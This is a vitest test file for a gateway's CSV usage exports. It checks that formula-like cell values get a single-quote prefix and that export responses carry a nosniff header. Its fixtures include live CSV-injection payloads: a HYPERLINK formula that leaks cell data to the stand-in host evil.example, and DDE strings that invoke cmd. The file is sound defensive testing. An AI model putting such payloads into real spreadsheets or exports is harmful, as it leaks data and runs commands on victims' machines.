import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useUsageExportEndpoints } from '../src/exports/http.js';
import { spreadsheetSafe } from '../src/exports/usage-export.js';
import { createApp, type App } from '../src/yoga.js';
import { createTestDatabase, testDatabaseKind, type TestDatabase } from './helpers/database.js';
import { createUsageRealm, insertUsage } from './helpers/usage-fixture.js';

// CSV exports open in spreadsheets: a name an attacker chose must show as text, never run as a formula.

const NOW = new Date('2026-03-10T12:30:00Z');
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
const DDE = "+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd|" /C calc"!A0';
const MINUS = '-2+3+cmd|"/C calc"!A0';
const TAB = '\t=1+1';
const CR = '\r=1+1';
const NEWLINE = 'two\nlines, "quoted"';

let db: TestDatabase;
let app: App;
let realm: Awaited<ReturnType<typeof createUsageRealm>>;

async function get(path: string, key: string | null = realm.admin.key) {
  const response = await app.fetch(`http://gateway.test${path}`, { headers: key ? { authorization: `Bearer ${key}` } : {} });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

beforeAll(async () => {
  db = await createTestDatabase();
  realm = await createUsageRealm(db.prisma, 'UTC');
  const { root, left, right, leaf } = realm.tree;
  await db.prisma.workspace.update({ where: { id: root.id }, data: { name: MINUS } });
  await db.prisma.workspace.update({ where: { id: left.id }, data: { name: HYPERLINK } });
  await db.prisma.workspace.update({ where: { id: right.id }, data: { name: TAB } });
  await db.prisma.workspace.update({ where: { id: leaf.id }, data: { name: NEWLINE } });
  await db.prisma.app.update({ where: { id: realm.apps[0]!.id }, data: { name: DDE } });
  await db.prisma.app.update({ where: { id: realm.apps[1]!.id }, data: { name: CR } });
  await db.prisma.feature.update({ where: { id: realm.features.tx.id }, data: { key: AT } });
  await insertUsage(db.prisma, realm.realm.id, { [AT]: realm.features.tx.id, req: realm.features.req.id }, [
    { feature: AT, hour: new Date('2026-03-02T10:00:00Z'), workspaceId: left.id, appId: realm.apps[0]!.id, quantity: '1.5' },
    { feature: AT, hour: new Date('2026-03-02T10:00:00Z'), workspaceId: right.id, appId: realm.apps[1]!.id, quantity: '2' },
    { feature: 'req', hour: new Date('2026-03-02T11:00:00Z'), workspaceId: leaf.id, quantity: '7' },
    { feature: 'req', hour: new Date('2026-03-02T11:00:00Z'), workspaceId: root.id, quantity: '3' },
  ]);
  const now = () => NOW;
  app = createApp({ prisma: db.prisma, now, plugins: [useUsageExportEndpoints({ prisma: db.prisma, now })] });
});

afterAll(async () => {
  await db?.destroy();
});

describe('CSV exports against formula injection', () => {
  it('prefixes every cell a spreadsheet would run as a formula with a single quote, keeping RFC 4180 quoting', async () => {
    const { status, text } = await get('/exports/usage/daily.csv?start=2026-03-02&end=2026-03-02');
    expect(status).toBe(200);
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.team, row.app, row.product, row.unit, row.quantity])).toEqual([
      [`'${TAB}`, `'${CR}`, `'${AT}`, 'TRANSACTION', '2'],
      [`'${MINUS}`, '', 'req', 'REQUEST', '3'],
      [`'${HYPERLINK}`, `'${DDE}`, `'${AT}`, 'TRANSACTION', '1.5'],
      [NEWLINE, '', 'req', 'REQUEST', '7'],
    ]);
    // No cell of the file starts like a formula; line breaks inside names stay inside their quoted cell.
    const cells = (parse(text) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(text.split('\r\n').filter(Boolean)).toHaveLength(5);
    expect(text).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
  });

  it('sends X-Content-Type-Options: nosniff on every export answer, errors included', async () => {
    const ok = await get('/exports/usage/monthly.csv?month=2026-03');
    const head = await app.fetch('http://gateway.test/exports/usage/monthly.csv?month=2026-03', { method: 'HEAD', headers: { authorization: `Bearer ${realm.admin.key}` } });
    const badInput = await get('/exports/usage/monthly.csv?month=March');
    const noKey = await get('/exports/usage/monthly.csv', null);
    expect([ok.status, head.status, badInput.status, noKey.status]).toEqual([200, 200, 400, 401]);
    for (const headers of [ok.headers, head.headers, badInput.headers, noKey.headers]) expect(headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe.runIf(testDatabaseKind() === 'pglite')('spreadsheetSafe', () => {
  it('escapes =, +, -, @, tab and CR at the start of a cell, and nothing else', () => {
    for (const cell of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx']) expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
    for (const cell of ['', 'plain', 'a=1', '1-2', ' =1', "'=1", 'x\n=1', 'Sales, "EMEA"']) expect(spreadsheetSafe(cell)).toBe(cell);
  });
});
